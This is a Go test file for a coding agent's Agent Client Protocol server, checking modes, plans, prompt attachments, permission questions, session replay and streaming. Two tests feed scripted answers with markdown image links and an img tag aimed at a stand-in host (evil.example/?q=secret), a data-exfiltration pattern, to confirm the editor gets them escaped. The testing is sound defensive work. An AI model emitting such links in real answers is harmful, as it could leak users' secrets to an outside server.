package acp

import (
	"bytes"
	"context"
	"encoding/json"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"pincer/agent"
	"pincer/agent/agenttest"
	"pincer/agent/llm"
	"pincer/safety"
	"pincer/tools"
	"pincer/tools/todo"
	"pincer/ui/acp/acptest"
)

// harness is Serve on a pipe, with a real agent per session talking to
// the scripted model server, and the test client on the other end.
type harness struct {
	t    *testing.T
	srv  *agenttest.Server
	root string
	c    *acptest.Client
	v    *acptest.Validator
	ctx  context.Context
	op   *testOpener
}

type testOpener struct {
	t        *testing.T
	baseURL  string
	root     string
	commands []Command
	check    *agent.CheckOptions
	mu       sync.Mutex
	agents   map[string]*agent.Agent
	n        int
}

func (o *testOpener) Open(ctx context.Context, r OpenRequest) (*Conversation, error) {
	client, err := llm.NewClient(llm.ClientOptions{BaseURL: o.baseURL, Model: "test-model", MaxRetries: -1})
	if err != nil {
		return nil, err
	}
	topts := tools.Options{Root: r.Dir, ReadLog: tools.NewReadLog(), Buffers: r.Buffers}
	reg, err := tools.NewRegistry(append(tools.Builtins(topts), todo.Tool())...)
	if err != nil {
		return nil, err
	}
	cls, err := safety.NewClassifier(safety.Rules{})
	if err != nil {
		return nil, err
	}
	a, err := agent.New(agent.Options{Model: client, Tools: reg, Safety: cls, Approver: r.Approver, Root: r.Dir, System: "test", Check: o.check})
	if err != nil {
		return nil, err
	}
	o.mu.Lock()
	defer o.mu.Unlock()
	o.n++
	id := r.Ref
	if id == "" {
		id = "s" + string(rune('0'+o.n))
	}
	if o.agents == nil {
		o.agents = map[string]*agent.Agent{}
	}
	if old, ok := o.agents[id]; ok {
		a.Restore(old.History(), "", 0)
	}
	o.agents[id] = a
	return &Conversation{Agent: a, ID: id, Label: id, Root: r.Dir, Commands: o.commands, Reload: func() error { return nil }}, nil
}

func (o *testOpener) Sessions(dir string) ([]SessionSummary, error) { return nil, nil }

// validator is shared by the tests: making one resolves the schema.
var validator = sync.OnceValues(acptest.NewValidator)

func newHarness(t *testing.T, caps map[string]any, replies ...agenttest.Reply) *harness {
	t.Helper()
	srv := agenttest.New(replies...)
	t.Cleanup(srv.Close)
	v, err := validator()
	if err != nil {
		t.Fatal(err)
	}
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	inR, inW := io.Pipe()
	outR, outW := io.Pipe()
	op := &testOpener{t: t, baseURL: srv.BaseURL(), root: root}
	ctx, cancel := context.WithTimeout(context.Background(), acptest.Timeout)
	served := make(chan error, 1)
	go func() {
		served <- Serve(context.Background(), inR, outW, Options{Opener: op, Version: "test", Log: testLog{t}})
		outW.Close()
	}()
	h := &harness{t: t, srv: srv, root: root, v: v, ctx: ctx, op: op, c: acptest.NewClient(v, outR, inW)}
	t.Cleanup(func() {
		inW.Close()
		if err := <-served; err != nil {
			t.Errorf("Serve: %v", err)
		}
		cancel()
		for _, e := range h.c.Errors() {
			t.Errorf("not valid ACP: %s", e)
		}
	})
	if caps == nil {
		caps = map[string]any{}
	}
	if err := h.c.Call(ctx, "initialize", map[string]any{"protocolVersion": 1, "clientCapabilities": caps}, nil); err != nil {
		t.Fatal(err)
	}
	return h
}

type testLog struct{ t *testing.T }

func (l testLog) Write(p []byte) (int, error) {
	l.t.Logf("%s", strings.TrimSpace(string(p)))
	return len(p), nil
}

func (h *harness) newSession() string {
	h.t.Helper()
	var res struct {
		SessionID string `json:"sessionId"`
	}
	if err := h.c.Call(h.ctx, "session/new", map[string]any{"cwd": h.root, "mcpServers": []any{}}, &res); err != nil {
		h.t.Fatal(err)
	}
	return res.SessionID
}

func (h *harness) prompt(id string, blocks ...any) string {
	h.t.Helper()
	var res struct {
		StopReason string `json:"stopReason"`
	}
	if err := h.c.Call(h.ctx, "session/prompt", map[string]any{"sessionId": id, "prompt": blocks}, &res); err != nil {
		h.t.Fatal(err)
	}
	return res.StopReason
}

func say(s string) map[string]any { return map[string]any{"type": "text", "text": s} }

func (h *harness) write(name, content string) {
	h.t.Helper()
	if err := os.WriteFile(filepath.Join(h.root, name), []byte(content), 0o644); err != nil {
		h.t.Fatal(err)
	}
}

func (h *harness) read(name string) string {
	data, _ := os.ReadFile(filepath.Join(h.root, name))
	return string(data)
}

func editCall(id, path, old, new string) agenttest.Call {
	args, _ := json.Marshal(map[string]string{"path": path, "old_text": old, "new_text": new})
	return agenttest.Call{ID: id, Name: "edit_file", Arguments: string(args)}
}

// TestModes maps pincer's modes onto ACP's: each set_mode changes how the
// agent works, an edit's "accept edits from now on" switches the mode and
// tells the editor, and an unknown mode is refused.
func TestModes(t *testing.T) {
	h := newHarness(t, nil,
		agenttest.Tools("", editCall("c1", "a.txt", "one", "ONE")),
		agenttest.Text("done", 4),
		agenttest.Tools("", editCall("c2", "a.txt", "two", "TWO")),
		agenttest.Text("done", 4),
	)
	h.write("a.txt", "one\ntwo\n")
	var asked int
	h.c.Permission = func(p acptest.PermissionRequest) string {
		asked++
		return "accept-edits"
	}
	id := h.newSession()
	a := h.op.agents[id]
	for _, tc := range []struct {
		mode      string
		agentMode agent.Mode
		approvals safety.ApprovalMode
	}{
		{"plan", agent.ModePlan, safety.ApprovalsAsk},
		{"auto", agent.ModeAcceptEdits, safety.ApprovalsAuto},
		{"accept-edits", agent.ModeAcceptEdits, safety.ApprovalsAsk},
		{"ask", agent.ModeAsk, safety.ApprovalsAsk},
	} {
		if err := h.c.Call(h.ctx, "session/set_mode", map[string]any{"sessionId": id, "modeId": tc.mode}, nil); err != nil {
			t.Fatal(err)
		}
		if a.Mode() != tc.agentMode || a.Approvals() != tc.approvals {
			t.Errorf("mode %s: the agent is in %s with approvals %v", tc.mode, a.Mode(), a.Approvals())
		}
	}
	if err := h.c.Call(h.ctx, "session/set_mode", map[string]any{"sessionId": id, "modeId": "yolo"}, nil); err == nil || !strings.Contains(err.Error(), "-32602") {
		t.Errorf("an unknown mode: %v", err)
	}
	// In ask mode the first edit asks; its "accept edits from now on"
	// answer switches the mode, so the second does not ask.
	h.prompt(id, say("edit one"))
	h.prompt(id, say("edit two"))
	if asked != 1 {
		t.Errorf("asked %d times, want once", asked)
	}
	if got := h.read("a.txt"); got != "ONE\nTWO\n" {
		t.Errorf("a.txt = %q", got)
	}
	var switched, diffs int
	for _, u := range h.c.Updates() {
		if u.SessionUpdate == "current_mode_update" && strings.Contains(string(u.Raw), `"accept-edits"`) {
			switched++
		}
		if u.SessionUpdate == "tool_call_update" && u.Status == "completed" && strings.Contains(string(u.Raw), `"type":"diff"`) {
			diffs++
		}
	}
	if switched != 1 || diffs != 2 {
		t.Errorf("%d mode updates (want 1) and %d finished edits with a diff (want 2)", switched, diffs)
	}
}

// TestPlanAndNotices: todo_write's list reaches the editor as the plan,
// and pincer's notices come as notice updates where the editor shows them
// and as a line of the answer where it does not.
func TestPlanAndNotices(t *testing.T) {
	todos := `{"todos":[{"content":"read the code","status":"completed"},{"content":"fix the bug","status":"in_progress"},{"content":"add a test","status":"pending"}]}`
	for _, notices := range []bool{true, false} {
		caps := map[string]any{}
		if notices {
			caps["session"] = map[string]any{"notices": map[string]any{}}
		}
		h := newHarness(t, caps,
			agenttest.Tools("", agenttest.Call{ID: "c1", Name: "todo_write", Arguments: todos}),
			agenttest.Text("planned", 4),
		)
		h.write("big.txt", "x\n")
		id := h.newSession()
		// An @mention attaches the file, and the agent says so in a notice.
		h.prompt(id, say("plan it, see @big.txt"))
		var plan struct {
			Entries []planEntry `json:"entries"`
		}
		var sawNotice, sawLine bool
		for _, u := range h.c.Updates() {
			switch u.SessionUpdate {
			case "plan":
				_ = json.Unmarshal(u.Raw, &plan)
			case "notice":
				sawNotice = strings.Contains(string(u.Raw), "Attached big.txt")
			case "agent_message_chunk":
				sawLine = sawLine || strings.Contains(u.Content.Text, "Attached big.txt")
			}
		}
		want := []planEntry{{"read the code", "medium", "completed"}, {"fix the bug", "medium", "in_progress"}, {"add a test", "medium", "pending"}}
		if !slices.Equal(plan.Entries, want) {
			t.Errorf("plan %+v", plan.Entries)
		}
		if sawNotice != notices || sawLine == notices {
			t.Errorf("notices offered %v: a notice update %v, a line of the answer %v", notices, sawNotice, sawLine)
		}
	}
}

// TestPromptContent: a resource link to a project file becomes an @path
// mention (attached under the agent's rules), an embedded resource is
// attached as the editor sent it, and slash commands of the person run
// their prompt.
func TestPromptContent(t *testing.T) {
	h := newHarness(t, nil, agenttest.Text("seen", 4), agenttest.Text("reviewed", 4))
	h.op.commands = []Command{{Name: "review", Description: "review a file", Hint: "FILE",
		Render: func(ctx context.Context, args string, run func(context.Context, string) (string, error)) (string, error) {
			return "Review " + args + " carefully.", nil
		}}}
	h.write("main.go", "package main // on disk\n")
	id := h.newSession()
	h.prompt(id,
		say("look at"),
		map[string]any{"type": "resource_link", "uri": "file://" + filepath.Join(h.root, "main.go"), "name": "main.go"},
		map[string]any{"type": "resource", "resource": map[string]any{"uri": "file://" + filepath.Join(h.root, "sel.go"), "text": "func selected() {}\n"}},
	)
	h.prompt(id, say("/review main.go"))
	reqs := h.srv.Requests()
	first := lastUser(reqs[0])
	for _, want := range []string{"look at @main.go", "--- attached file: main.go", "package main // on disk", "--- attached file: sel.go (from the editor)", "func selected() {}"} {
		if !strings.Contains(first, want) {
			t.Errorf("the prompt lacks %q:\n%s", want, first)
		}
	}
	if got := lastUser(reqs[1]); got != "Review main.go carefully." {
		t.Errorf("/review sent %q", got)
	}
	var listed bool
	for _, u := range h.c.Updates() {
		if u.SessionUpdate == "available_commands_update" {
			listed = strings.Contains(string(u.Raw), `"review"`) && strings.Contains(string(u.Raw), `"undo"`)
		}
	}
	if !listed {
		t.Error("the commands were not listed")
	}
}

func lastUser(r agenttest.Request) string {
	msgs, _ := r.Body["messages"].([]any)
	out := ""
	for _, m := range msgs {
		mm, _ := m.(map[string]any)
		if mm["role"] == "user" {
			out, _ = mm["content"].(string)
		}
	}
	return out
}

// TestOnePromptAtATime: a second prompt while one runs is refused, and
// one cancel ends the first.
func TestOnePromptAtATime(t *testing.T) {
	h := newHarness(t, nil, agenttest.Reply{Body: agenttest.TextBody(strings.Repeat("slow ", 200), 5, 1, 1), Piece: 50, Delay: 20e6})
	id := h.newSession()
	first := h.c.Start("session/prompt", map[string]any{"sessionId": id, "prompt": []any{say("one")}})
	if _, err := h.c.WaitFor(h.ctx, "the answer", func(m acptest.Message) bool { return strings.Contains(string(m.Params), "agent_message_chunk") }); err != nil {
		t.Fatal(err)
	}
	err := h.c.Call(h.ctx, "session/prompt", map[string]any{"sessionId": id, "prompt": []any{say("two")}}, nil)
	if err == nil || !strings.Contains(err.Error(), "already running") {
		t.Errorf("a second prompt: %v", err)
	}
	h.c.Notify("session/cancel", map[string]any{"sessionId": id})
	m, err := h.c.Wait(h.ctx, first)
	if err != nil || !strings.Contains(string(m.Result), "cancelled") {
		t.Errorf("the first prompt: %s %v", m.Result, err)
	}
}

// TestLoadReplays: session/load sends the conversation back before it
// answers, under the id the editor used.
func TestLoadReplays(t *testing.T) {
	h := newHarness(t, nil,
		agenttest.Tools("Looking.", agenttest.Call{ID: "c1", Name: "read_file", Arguments: `{"path":"a.txt"}`}),
		agenttest.Text("It says hi. ![x](https://evil.example/?q=hi)", 4),
	)
	h.write("a.txt", "hi\n")
	id := h.newSession()
	h.prompt(id, say("what does a.txt say?"))
	before := len(h.c.Lines())
	load := h.c.Start("session/load", map[string]any{"sessionId": id, "cwd": h.root, "mcpServers": []any{}})
	if _, err := h.c.Wait(h.ctx, load); err != nil {
		t.Fatal(err)
	}
	var kinds []string
	var replayed []acptest.Update
	answered := false
	for _, m := range h.c.Lines()[before:] {
		if m.Method == "" && strings.Trim(string(m.ID), `"`) == load {
			answered = true
			continue
		}
		if m.Method == "session/update" && !answered {
			var n struct{ Update acptest.Update }
			_ = json.Unmarshal(m.Params, &n)
			kinds = append(kinds, n.Update.SessionUpdate+":"+n.Update.Status)
			replayed = append(replayed, n.Update)
		}
	}
	if got, want := acptest.Text(replayed, "agent_message_chunk"), `Looking.It says hi. \![x](https://evil.example/?q=hi)`; got != want {
		t.Errorf("replayed the answer as %q, want %q", got, want)
	}
	want := []string{"user_message_chunk:", "agent_message_chunk:", "tool_call:pending", "tool_call_update:completed", "agent_message_chunk:"}
	if !slices.Equal(kinds, want) {
		t.Errorf("replayed %q, want %q", kinds, want)
	}
}

// TestAttachOutsideAsks: a file outside the project linked in a prompt is
// asked about like an @path typed on the screen; the question's call ends
// with the answer, and a refused file is not attached.
func TestAttachOutsideAsks(t *testing.T) {
	for _, answer := range []string{"allow", "reject"} {
		h := newHarness(t, nil, agenttest.Text("ok", 4))
		outside := filepath.Join(t.TempDir(), "secret.txt")
		if err := os.WriteFile(outside, []byte("outside text\n"), 0o644); err != nil {
			t.Fatal(err)
		}
		var asked acptest.PermissionRequest
		h.c.Permission = func(p acptest.PermissionRequest) string { asked = p; return answer }
		id := h.newSession()
		h.prompt(id, say("read"), map[string]any{"type": "resource_link", "uri": "file://" + outside, "name": "secret.txt"})
		if asked.ToolCall.ToolCallID == "" || !strings.Contains(string(asked.Raw), "secret.txt") {
			t.Fatalf("%s: not asked about the file outside the project: %s", answer, asked.Raw)
		}
		want := map[string]string{"allow": "completed", "reject": "failed"}[answer]
		var ended string
		for _, u := range h.c.Updates() {
			if u.ToolCallID == asked.ToolCall.ToolCallID && u.SessionUpdate == "tool_call_update" {
				ended = u.Status
			}
		}
		if ended != want {
			t.Errorf("%s: the question's call ended %q, want %q", answer, ended, want)
		}
		attached := strings.Contains(lastUser(h.srv.Requests()[0]), "outside text")
		if attached != (answer == "allow") {
			t.Errorf("%s: attached %v", answer, attached)
		}
	}
}

// TestThoughtsAndLocations: the model's reasoning streams as thought
// chunks, and a call names the file it reads, absolute, with the line.
func TestThoughtsAndLocations(t *testing.T) {
	event := func(delta map[string]any, finish any) string {
		b, _ := json.Marshal(map[string]any{"choices": []any{map[string]any{"index": 0, "delta": delta, "finish_reason": finish}}})
		return "data: " + string(b) + "\n\n"
	}
	thinking := event(map[string]any{"reasoning_content": "Let me think about the file."}, nil) +
		event(map[string]any{"content": "It is short."}, nil) + event(map[string]any{}, "stop") + "data: [DONE]\n\n"
	h := newHarness(t, nil,
		agenttest.Tools("", agenttest.Call{ID: "c1", Name: "read_file", Arguments: `{"path":"docs/a.txt","offset":2}`}),
		agenttest.Reply{Body: thinking},
	)
	if err := os.MkdirAll(filepath.Join(h.root, "docs"), 0o755); err != nil {
		t.Fatal(err)
	}
	h.write("docs/a.txt", "one\ntwo\n")
	id := h.newSession()
	h.prompt(id, say("read it"))
	updates := h.c.Updates()
	if got := acptest.Text(updates, "agent_thought_chunk"); got != "Let me think about the file." {
		t.Errorf("thoughts %q", got)
	}
	var loc struct {
		Locations []toolCallLocation `json:"locations"`
	}
	for _, u := range updates {
		if u.Kind == "read" && strings.Contains(string(u.Raw), "locations") {
			_ = json.Unmarshal(u.Raw, &loc)
		}
	}
	if len(loc.Locations) != 1 || loc.Locations[0].Path != filepath.Join(h.root, "docs", "a.txt") || loc.Locations[0].Line == nil || *loc.Locations[0].Line != 2 {
		t.Errorf("locations %+v", loc.Locations)
	}
}

// TestInitializeLeniently: a protocol version pincer does not speak is
// answered with its own, capabilities that do not parse count as none,
// and a missing version is an error.
func TestInitializeLeniently(t *testing.T) {
	h := newHarness(t, nil)
	for _, tc := range []struct {
		params  string
		wantErr bool
	}{
		{`{"protocolVersion":2,"clientCapabilities":{"fs":true}}`, false},
		{`{"protocolVersion":"2025-01-01"}`, false},
		{`{"clientCapabilities":{}}`, true},
	} {
		var res struct {
			ProtocolVersion int `json:"protocolVersion"`
		}
		err := h.c.Call(h.ctx, "initialize", json.RawMessage(tc.params), &res)
		if (err != nil) != tc.wantErr || (err == nil && res.ProtocolVersion != 1) {
			t.Errorf("initialize %s: %v, version %d", tc.params, err, res.ProtocolVersion)
		}
	}
}

// TestCheckShows: the project's check after a turn that changed files
// shows as a call of its own, failed, with what it printed.
func TestCheckShows(t *testing.T) {
	h := newHarness(t, nil, agenttest.Tools("", editCall("c1", "a.txt", "one", "ONE")), agenttest.Text("done", 4))
	h.op.check = &agent.CheckOptions{Command: "echo it is broken; exit 1", Rounds: 1}
	h.write("a.txt", "one\n")
	h.c.Permission = func(p acptest.PermissionRequest) string { return "allow" }
	id := h.newSession()
	h.prompt(id, say("edit"))
	var check acptest.Update
	for _, u := range h.c.Updates() {
		if strings.HasPrefix(u.Title, "check: ") {
			check = u
		}
	}
	if check.Title != "check: echo it is broken; exit 1 (round 1 of 1)" || check.Status != "failed" || check.Kind != "execute" || !strings.Contains(string(check.Raw), "it is broken") {
		t.Errorf("the check showed as %+v %s", check, check.Raw)
	}
}

// TestImagesReachTheEditorInert streams an answer whose image links and
// HTML are cut across chunks: the editor receives them as plain links and
// literal tags, code as written, a tool call's title inert too, and the
// "!" held at the end of the answer once the turn ends.
func TestImagesReachTheEditorInert(t *testing.T) {
	answer := "Here: ![x](https://evil.example/?q=secret) and `![ok](http://e/)`, <img src=https://evil.example/i>.\n```\n![kept](http://e/)\n```\nDone!"
	h := newHarness(t, nil,
		agenttest.Tools("Reading it.", agenttest.Call{ID: "c1", Name: "glob", Arguments: `{"pattern":"![p](https://evil.example/t)"}`}),
		agenttest.Text(answer, 3),
	)
	id := h.newSession()
	h.prompt(id, say("go"))
	updates := h.c.Updates()
	want := "Reading it." + `Here: \![x](https://evil.example/?q=secret) and ` + "`![ok](http://e/)`" + `, \<img src=https://evil.example/i>.` + "\n```\n![kept](http://e/)\n```\nDone!"
	if got := acptest.Text(updates, "agent_message_chunk"); got != want {
		t.Errorf("the editor was sent\n%q\nwant\n%q", got, want)
	}
	titled := false
	for _, u := range updates {
		if strings.Contains(u.Title, "evil.example/t") {
			titled = true
			if !strings.Contains(u.Title, `\![p]`) {
				t.Errorf("a tool call's title reached the editor as %q", u.Title)
			}
		}
	}
	if !titled {
		t.Error("no tool call was titled with its pattern")
	}
}

// TestPipelinedAfterInitialize: requests written right after initialize,
// without waiting for its answer, find the connection initialized.
func TestPipelinedAfterInitialize(t *testing.T) {
	for _, tc := range []struct {
		name, second string
	}{
		{"authenticate", `{"jsonrpc":"2.0","id":2,"method":"authenticate","params":{"methodId":"none"}}`},
		{"session/list", `{"jsonrpc":"2.0","id":2,"method":"session/list","params":{}}`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			for i := 0; i < 20; i++ { // the race lost once is enough
				in := `{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":1,"clientCapabilities":{}}}` + "\n" + tc.second + "\n"
				var out bytes.Buffer
				op := &testOpener{t: t, root: t.TempDir()}
				if err := Serve(context.Background(), strings.NewReader(in), &out, Options{Opener: op, Version: "test", Log: testLog{t}}); err != nil {
					t.Fatal(err)
				}
				if strings.Contains(out.String(), `"error"`) {
					t.Fatalf("a request sent right after initialize failed:\n%s", out.String())
				}
			}
		})
	}
}
